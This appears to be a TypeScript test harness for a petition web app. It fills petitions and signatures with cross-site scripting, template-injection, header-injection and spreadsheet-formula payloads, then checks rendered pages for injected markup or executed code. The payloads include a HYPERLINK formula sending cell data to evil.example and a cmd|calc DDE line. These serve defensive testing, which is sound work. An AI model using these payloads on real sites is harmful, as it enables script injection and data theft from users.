import assert from 'node:assert/strict';
import { before } from 'node:test';
import type { Page } from 'puppeteer-core';
import { htmlPage, openPage, scriptErrors } from './harness.ts';
import { waitForEmail } from './wait.ts';
import { type BrowserStage, useStage } from './window.ts';

/** Payloads that once ran in some browser, template, or spreadsheet. Here they set `__ran`. */
export const PAYLOADS = [
  '<script>__ran=1</script>',
  '"><img src=x onerror=__ran=1>',
  "'><svg/onload=__ran=1>",
  '" onfocus="__ran=1" autofocus x="',
  "' onmouseover='__ran=1' x='",
  '` onclick=__ran=1 x=`',
  'javascript:__ran=1//',
  'JaVa&Tab;Script&colon;__ran=1',
  'data:text/html,<script>__ran=1</script>',
  'https://a.example/"onmouseover="__ran=1',
  'https://a.example/?<svg/onload=__ran=1>',
  '</title><script>__ran=1</script>',
  '</style><script>__ran=1</script>',
  '</textarea><img src=x onerror=__ran=1>',
  '</script><script>__ran=1</script>',
  '</option></select><img src=x onerror=__ran=1>',
  '--><img src=x onerror=__ran=1><!--',
  '<![CDATA[<script>__ran=1</script>]]>',
  '<?xml version="1.0"?><script>__ran=1</script>',
  '<math><mi xlink:href="javascript:__ran=1">x',
  '<math><mtext><table><mglyph><style><img src onerror=__ran=1>',
  '<template shadowrootmode=open><img src onerror=__ran=1>',
  '<iframe srcdoc="<script>parent.__ran=1</script>">',
  '<base href="javascript:/"><a href="&#1;javascript:__ran=1">',
  '<form action="javascript:__ran=1"><button>x',
  '<meta http-equiv=refresh content="0;javascript:__ran=1">',
  '{{constructor.constructor("__ran=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: in case something interprets it as one
  '${__ran=1}',
  '<%= __ran=1 %> #{__ran=1} [[__ran=1]]',
  '?lit$012345678$ <!--?lit$--> $lit$',
  '&lt;script&gt;__ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=__ran=1&#x3e;',
  '%3Cscript%3E__ran=1%3C/script%3E +ADw-script+AD4-',
  '\\u003cscript\\u003e__ran=1 \\x3csvg/onload=__ran=1\\x3e',
  '$& $1 $` #a#b# $$',
  '\u200f<b>מרים</b>\u200e',
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3;=1+1',
  '@SUM(A1)',
];
/** Text that breaks out of its line, or reorders what is around it, and what the server makes of it in a name. */
export const BREAKING = new Map([
  ['Ana\r\nBcc: eve@example.org', 'Ana Bcc: eve@example.org'],
  ['\u202e<script>', '<script>'],
  ['\u2066=1', '=1'],
  ['a\u2028__ran=1', 'a __ran=1'],
]);

/** Payloads that fit into a postal code. */
const SHORT_PAYLOADS = ['<svg onload=__ran=1>', '"><svg onload=a()>', '{{__ran=1}}', '=1+1', "'-__ran-'"];

/** Two names of this length and a space still fit into a creator's name. */
const MAX_NAME_LENGTH = 59;

/** Payloads, as many as fit in each name, so that there are fewer pages to check. */
const PARTNER_NAMES: string[] = [];
for (const payload of PAYLOADS) {
  const combined = `${PARTNER_NAMES.at(-1)} ${payload}`;
  if (PARTNER_NAMES.length > 0 && combined.length <= MAX_NAME_LENGTH)
    PARTNER_NAMES[PARTNER_NAMES.length - 1] = combined;
  else PARTNER_NAMES.push(payload);
}

/** The names of each petition's two partners. */
export const PARTNERS = PARTNER_NAMES.flatMap((name, index) =>
  index % 2 ? [] : [[name, PARTNER_NAMES[index + 1] ?? '=1+1'] as const],
);

/** Each petition's payloads, for longer texts. */
export const GROUPS = PARTNERS.map((names) => names.join(' '));

/** Petitions made of payloads, in two languages. The first has all payloads, one per paragraph. */
export const PETITIONS = GROUPS.map((group, index) => ({
  slug: `payloads-${index}`,
  creator: group,
  texts: {
    en: { title: group, text: paragraphsOf(index).join('\n\n') },
    es: { title: `ES ${group}`, text: `ES ${group}` },
  },
  fields: {
    familyName: 'optional',
    postalCode: 'optional',
    comment: 'optional',
    display: 'optional',
    partnerContact: 'optional',
  },
  partners: { p: PARTNERS[index]![0], q: PARTNERS[index]![1] },
}));

/** The paragraphs of a petition's text. */
export function paragraphsOf(index: number): string[] {
  return index === 0 ? PAYLOADS : [GROUPS[index]!];
}

/** What a person enters who signs a petition, without an email address. */
export const signerOf = (index: number) => ({
  givenName: `${GROUPS[index]} Jess${index}`,
  // From the next group, so that half of the forms contain all of them.
  familyName: GROUPS[(index + 1) % GROUPS.length]!,
  postalCode: SHORT_PAYLOADS[index % SHORT_PAYLOADS.length]!,
  comment: `${GROUPS[index]}\n\n${GROUPS[index]}`,
});

/** `useStage` with email confirmation, without limits, and with `PETITIONS` loaded. */
export function usePayloads(): BrowserStage {
  const stage = useStage({ withEmails: true, env: { LIMITS: 'off' } });
  before(() => stage.load(PETITIONS));
  return stage;
}

/** Opens a tab that ignores Content-Security-Policy, so that only escaping keeps a payload from running. */
export function openUnprotectedTab({ window }: BrowserStage): Promise<Page> {
  return openPage(window, 'about:blank', {
    async prepare(page) {
      await page.setBypassCSP(true);
      await page.setCacheEnabled(false);
      page.on('dialog', (dialog) => {
        scriptErrors.push(new Error(`unexpected dialog: ${dialog.message()}`));
        void dialog.dismiss();
      });
      // The TypeScript loader names functions with a helper that the page doesn't have.
      await page.evaluateOnNewDocument('globalThis.__name = (fn) => fn');
    },
  });
}

/** A partner's page with the script, and a widget for each set of attributes. */
export const partnerPage = ({ petitions }: BrowserStage, widgets: Record<string, string>[]) =>
  htmlPage(
    widgets
      .map((attributes) => {
        const pairs = Object.entries(attributes).map(([name, value]) => `${name}="${value}"`);
        return `<petition-widget ${pairs.join(' ')}></petition-widget>`;
      })
      .join(''),
    `<script type="module" src="${petitions}/v1/petition-widget.js"></script>`,
  );

/** Posts JSON to the server. */
export function post({ petitions }: BrowserStage, path: string, body: object): Promise<Response> {
  return fetch(petitions + path, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });
}

/** Confirms a signature by the link in its email, and to be shown publicly if that was asked for. */
export async function confirm({ emails }: BrowserStage, address: string): Promise<void> {
  const { links } = await waitForEmail(emails, address);
  const body = new URLSearchParams({ sure: 'yes', display: 'true' });
  assert.equal((await fetch(links.confirm!, { method: 'POST', body })).status, 200);
}

/** @param state describes the page in the error message */
export async function assertNoInjection(page: Page, state: string): Promise<void> {
  assert.deepEqual(await page.evaluate(findInjections), [], state);
}

/**
 * Runs in the page. Finds markup that our templates don't create, in the light and shadow DOM, and payloads that ran.
 */
export function findInjections(): string[] {
  const elements = new Set(
    `html head meta title link style body div nav span a bdi main article section header footer h1 h2 h3 p ul li strong
    small q progress form label input select option textarea button slot details summary petition-widget`.split(
      /\s+/,
    ),
  );
  const attributes = new Set(
    `lang dir charset name content property rel hreflang href class id for type value autocomplete inputmode autocapitalize spellcheck maxlength max method novalidate
    action rows tabindex role required selected checked readonly part target style media pattern download
    petition partner server`.split(/\s+/),
  );
  const found: string[] = [];
  const search = (root: Document | ShadowRoot) => {
    for (const element of root.querySelectorAll('*')) {
      // The script tag that loads the widget.
      if (element.matches('head > script[type=module][src$="/v1/petition-widget.js"]:empty')) continue;
      // The QR code of a poster.
      if (element.matches('svg.code, svg.code > path[id=code], svg.code > use[href="#code"]')) continue;
      const { localName } = element;
      if (!elements.has(localName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
        found.push(`<${localName}>`);
      }
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name) && !name.startsWith('aria-')) found.push(`<${localName} ${name}>`);
        const isUrl = name === 'href' || name === 'action';
        if (isUrl && !/^(?:https?|mailto|sms):$/.test(new URL(value, document.baseURI).protocol)) {
          // An email isn't on a page, so a relative URL has no protocol there.
          if (!value.startsWith('#')) found.push(`<${localName} ${name}="${value}">`);
        }
      }
      if (element.shadowRoot) search(element.shadowRoot);
    }
  };
  search(document);
  if ('__ran' in window) found.push('something ran');
  return found;
}
